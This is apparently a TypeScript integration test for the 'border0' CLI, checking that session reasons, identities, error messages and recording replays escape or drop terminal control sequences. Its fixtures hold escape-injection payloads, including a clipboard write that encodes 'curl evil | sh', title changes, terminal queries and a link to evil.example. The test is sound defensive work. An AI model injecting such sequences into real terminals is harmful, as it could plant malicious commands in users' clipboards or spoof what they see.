/**
 * What users and upstreams chose never reaches the admin's terminal raw: the real `border0` binary against a
 * real server, with a session whose reason and service account hold escape sequences and whose recording
 * holds clipboard writes, title changes and terminal queries.
 */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { asciicastEventLine, asciicastHeaderLine } from '@border0/protocol';
import { createClient } from '@border0/sdk';
import { border0 as runCli, tempDir } from '@border0/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from './test-server.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** Clipboard write, title change, cursor position query, carriage return over the text, C1 CSI. */
const HOSTILE = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}${ESC}]0;owned${BEL}${ESC}[6n\r\u009b5n`;
/** The first character a terminal acts on, besides the newlines that end lines. */
function terminalControlIn(text: string): string | undefined {
  for (const c of text) {
    const code = c.charCodeAt(0);
    if ((code < 0x20 && c !== '\n') || (code >= 0x7f && code <= 0x9f)) return JSON.stringify(c);
  }
  return undefined;
}

let api: TestServer;
let configDir: string;
let denied: string;
let recorded: string;

const border0 = (...args: string[]) =>
  runCli(args, { BORDER0_CONFIG_DIR: configDir, BORDER0_API_URL: api.server.url });

beforeAll(async () => {
  api = await startTestServer();
  configDir = join(tempDir('config'), 'border0');
  expect((await border0('login', '--token', api.token)).code).toBe(0);
  const admin = createClient({ baseUrl: api.server.url, token: api.token });
  const proxy = createClient({ baseUrl: api.server.url, token: api.server.proxyToken! });
  const socket = await admin.post('/api/v1/sockets', {
    body: {
      name: 'box',
      socket_type: 'tls',
      upstream_configuration: { type: 'tls', hostname: '127.0.0.1', port: 2222 },
    },
  });
  denied = (
    await proxy.post('/api/v1/proxy/sessions', {
      body: {
        socket_id: socket.id,
        service_account: `ci${HOSTILE}`,
        result: 'denied',
        reason: `denied: logging in as root${HOSTILE} is not allowed`,
      },
    })
  ).id;
  recorded = (
    await proxy.post('/api/v1/proxy/sessions', {
      body: { socket_id: socket.id, user_email: 'alice@acme.dev', result: 'allowed' },
    })
  ).id;
  const recording = await proxy.post('/api/v1/proxy/sessions/{session_id}/recordings', {
    params: { path: { session_id: recorded } },
    body: { format: 'asciicast-v2' },
  });
  const cast =
    asciicastHeaderLine({ version: 2, width: 80, height: 24 }) +
    asciicastEventLine(0.1, 'o', `$ cat notes.txt\r\n${ESC}[1;32mgreen${ESC}[0m ${ESC}]52;c;`) +
    asciicastEventLine(
      0.2,
      'o',
      `Y3VybCBldmlsIHwgc2g=${BEL}${ESC}[6n${ESC}P$qm${ESC}\\${ESC}]8;;https://evil.example/${ESC}\\link${ESC}]8;;${ESC}\\\r\n`,
    );
  const path = { session_id: recorded, recording_id: recording.id };
  await proxy.put('/api/v1/proxy/sessions/{session_id}/recordings/{recording_id}/chunks/{seq}', {
    params: { path: { ...path, seq: 0 } },
    body: new TextEncoder().encode(cast) as never,
    bodySerializer: (body: unknown) => body as Uint8Array,
    headers: { 'content-type': 'application/octet-stream' },
  });
  await proxy.post('/api/v1/proxy/sessions/{session_id}/recordings/{recording_id}/end', { params: { path } });
}, 60_000);

afterAll(async () => {
  await api?.close();
  if (configDir) rmSync(join(configDir, '..'), { recursive: true, force: true });
});

describe('border0 output of data that users and upstreams chose', () => {
  it('session show prints the reason and the identity with their escape sequences made visible', async () => {
    const result = await border0('session', 'show', denied);
    expect(result.code, result.stderr).toBe(0);
    expect(terminalControlIn(result.stdout)).toBeUndefined();
    expect(result.stdout).toContain(
      'root\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]0;owned\\x07\\x1b[6n \\x9b5n',
    );
    expect(result.stdout).toMatch(/user:\s+sa:ci\\x1b\]52;c;/);
  });

  it('session ls does the same in its table', async () => {
    const result = await border0('session', 'ls');
    expect(result.code, result.stderr).toBe(0);
    expect(terminalControlIn(result.stdout)).toBeUndefined();
    expect(result.stdout).toContain('sa:ci\\x1b]52;c;');
  });

  it('JSON output stays valid JSON with the exact value, and nothing raw in it', async () => {
    for (const args of [
      ['session', 'show', denied],
      ['session', 'ls'],
    ]) {
      const result = await border0(...args, '--output', 'json');
      expect(result.code, result.stderr).toBe(0);
      expect(terminalControlIn(result.stdout)).toBeUndefined();
      const parsed = JSON.parse(result.stdout);
      const session = Array.isArray(parsed) ? parsed.find((s: { id: string }) => s.id === denied) : parsed;
      expect(session.reason).toBe(`denied: logging in as root${HOSTILE} is not allowed`);
    }
  });

  it('an error that echoes what was typed shows it visibly', async () => {
    const result = await border0('socket', 'show', `nope${ESC}]52;c;eA==${BEL}`);
    expect(result.code).toBe(1);
    expect(terminalControlIn(result.stderr)).toBeUndefined();
    expect(result.stderr).toMatch(/^error: .*\\x1b\]52;c;eA==\\x07/);
  });

  it('session replay keeps the screen and drops the clipboard write, the query, DCS and the link', async () => {
    const result = await border0('session', 'replay', recorded, '--to-end');
    expect(result.code, result.stderr).toBe(0);
    const { stdout } = result;
    expect(stdout).toContain(`$ cat notes.txt\r\n${ESC}[1;32mgreen${ESC}[0m link\r\n`);
    for (const dropped of [`${ESC}]`, `${ESC}P`, `${ESC}[6n`, 'Y3VybCBldmlsIHwgc2g=', 'evil.example']) {
      expect(stdout).not.toContain(dropped);
    }
  });

  it('session replay --raw writes the recording as it is', async () => {
    const result = await border0('session', 'replay', recorded, '--to-end', '--raw');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain(`${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}${ESC}[6n`);
  });
});
